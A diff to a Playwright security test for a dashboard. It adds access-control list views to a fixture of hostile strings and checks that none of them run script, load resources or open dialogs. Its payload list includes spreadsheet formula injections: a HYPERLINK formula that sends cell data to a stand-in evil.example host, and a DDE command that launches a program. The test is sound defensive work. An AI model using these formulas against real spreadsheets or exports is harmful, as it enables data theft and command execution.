@@ -4,6 +4,7 @@ import csv
 import io
 import re
 from pathlib import Path
+from urllib.parse import quote
 
 import pytest
 from playwright.sync_api import Page, expect
@@ -11,6 +12,7 @@ from playwright.sync_api import Page, expect
 from tests.dashboard.conftest import sign_in
 from tests.dashboard.site import Site
 from tests.dashboard.world import (
+    NOTHING,
     World,
     api_key,
     change,
@@ -44,6 +46,7 @@ PAYLOADS = [
     "line\u2028separator",
     "x" * 20_000,
 ]
+ACCESS = ("admin-keys", "service-accounts", "invites", "project-users", "groups", "roles")
 FORMULAS = [
     '=HYPERLINK("https://evil.example?"&A1,"open")',
     "+1+cmd|' /C calc'!A0",
@@ -75,6 +78,7 @@ def _hostile() -> World:
             api_key(
                 n,
                 **org,
+                key_id=t,
                 name=t,
                 redacted_value=t,
                 type=t,
@@ -92,10 +96,29 @@ def _hostile() -> World:
             change(n, **org, entity_id=f"{n}{t}", event_id=t, **_changed(t)) for n, t in rows
         ],
         "/findings": [finding(n, t, **org, **_found(t)) for n, t in rows],
+        **{f"/{view}": [_row(n, t) for n, t in rows] for view in ACCESS},
         "/evidence-packs": [pack(n + 1, "failed", reason=t, kind=t, profile=t) for n, t in rows],
     }
     world.links = {n + 1: [link(n, label=t, state=t)] for n, t in rows}
     return world
+
+
+def _row(number: int, text: str) -> dict[str, object]:
+    """Return a row of any list of who may do what."""
+    names: tuple[str, ...] = (
+        "name",
+        "redacted_value",
+        "owner_id",
+        "owner_role",
+        "role",
+        "status",
+        "person_id",
+    )
+    names += ("email_prefix", "group_type", "description", "resource_type", "project_id")
+    ids = ("key_id", "service_account_id", "invite_id", "membership_id", "group_id", "role_id")
+    row: dict[str, object] = {**dict.fromkeys(names, text), "permissions": [text] * 5}
+    row |= dict.fromkeys(ids, f"{number}{text}")
+    return row | {"org_id": "org-0", "user_id": text, "first_seen_at": None, "expires_at": text}
 
 
 def _changed(text: str) -> dict[str, object]:
@@ -107,14 +130,16 @@ def _found(text: str) -> dict[str, object]:
     said = dict.fromkeys(("state", "reason", "accountable", "due_date", "by"), text)
     by = {"hour": "2026-04-02T00:00:00Z", "kind": text, "event_id": text}
     same = dict.fromkeys(("reason", "severity", "section", "entity_id", "event_id"), text)
-    return same | {"resolved_by": by, "stated": said}
+    subject = dict.fromkeys(NOTHING, text)
+    return same | {"resolved_by": by, "stated": said, "subject": subject}
 
 
 def test_no_name_runs_loads_or_asks_anything(page: Page, site: Site) -> None:
     """The page's fixture fails on a dialog, a policy violation, a foreign request or an error."""
     site.world.__dict__.update(_hostile().__dict__)
     site.world.refuse["GET /billing"] = (400, {"title": PAYLOADS[1], "detail": PAYLOADS[2]})
-    sign_in(page, site)
+    page.set_viewport_size({"width": 1280, "height": 20_000})  # every row is in sight
+    sign_in(page, site, "#organizations")
     expect(page.get_by_test_id("organization")).to_have_count(len(PAYLOADS + FORMULAS))
     expect(page.get_by_test_id("bill-problem")).to_contain_text(PAYLOADS[1])
     for view, testid in (
@@ -124,16 +149,24 @@ def test_no_name_runs_loads_or_asks_anything(page: Page, site: Site) -> None:
         ("events", "row"),
         ("changes", "row"),
         ("findings", "row"),
+        *((view, "row") for view in ACCESS),
         ("packs", "pack"),
     ):
         page.get_by_test_id(f"nav-{view}").click()
         if view == "findings":
             page.get_by_test_id("findings-filter-state").select_option("all")
+            expect(page.get_by_test_id("select-row").first).to_be_visible()
         rows = page.get_by_test_id(f"table-{view}").get_by_test_id(testid)
         expect(rows).to_have_count(len(PAYLOADS + FORMULAS))
         expect(rows.nth(0)).to_contain_text(PAYLOADS[0])
+    page.evaluate(f"location.hash = {'#key?org_id=org-0&id=' + quote(PAYLOADS[0])!r}")
+    expect(page.get_by_test_id("note")).to_contain_text(PAYLOADS[0])
+    expect(page.get_by_test_id("timeline")).to_contain_text(PAYLOADS[0])
+    page.get_by_test_id("nav-now").click()
+    expect(page.get_by_test_id("work-list")).to_contain_text(PAYLOADS[2])
+    page.get_by_test_id("trend").wait_for()
     made = page.evaluate(
-        "document.querySelectorAll('#page :is(script, svg, iframe, link, base)').length"
+        "document.querySelectorAll('#page :is(script, .text svg, iframe, link, base)').length"
     )
     assert made == 0
 
